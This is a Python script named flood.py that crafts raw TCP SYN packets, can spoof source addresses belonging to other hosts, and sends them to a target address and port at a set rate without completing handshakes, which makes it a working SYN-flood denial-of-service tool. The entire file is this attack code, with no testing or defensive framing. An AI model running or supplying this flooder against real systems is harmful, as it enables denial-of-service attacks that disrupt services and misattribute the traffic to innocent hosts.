"""flood.py ADDRESS PORT COUNT RATE SOURCE ...: sends SYNs to ADDRESS and PORT without completing the handshakes.

Sends COUNT SYNs from the ports of each SOURCE (an IPv4 address, also of another host), at most RATE a second.
Prints the duration in seconds.
"""
import socket
import struct
import sys
import time

address, port, count, rate, *sources = sys.argv[1:]
port, count, rate = int(port), int(count), int(rate)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def folded(words):
    total = sum(words)
    total = (total & 0xFFFF) + (total >> 16)
    return (total & 0xFFFF) + (total >> 16)


def syns(source):
    ends = socket.inet_aton(source) + socket.inet_aton(address)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + ends
    known = folded(struct.unpack("!10H", ends + struct.pack("!HHHH", 6, 20, port, 0x5002) + bytes(4)))
    for here in range(1024, 65536):
        # The initial sequence number is also `here`; the window is 0.
        checksum = ~folded((known, here, here)) & 0xFFFF
        yield ip + struct.pack("!HHIIHHHH", here, port, here, 0, 0x5002, 0, checksum, 0)


start, sent = time.monotonic(), 0
for packet in (packet for source in sources for packet in syns(source)):
    if sent == count:
        break
    raw.sendto(packet, (address, 0))
    sent += 1
    if sent % 256 == 0:
        time.sleep(max(0, start + sent / rate - time.monotonic()))
print(f"{time.monotonic() - start:.1f}")
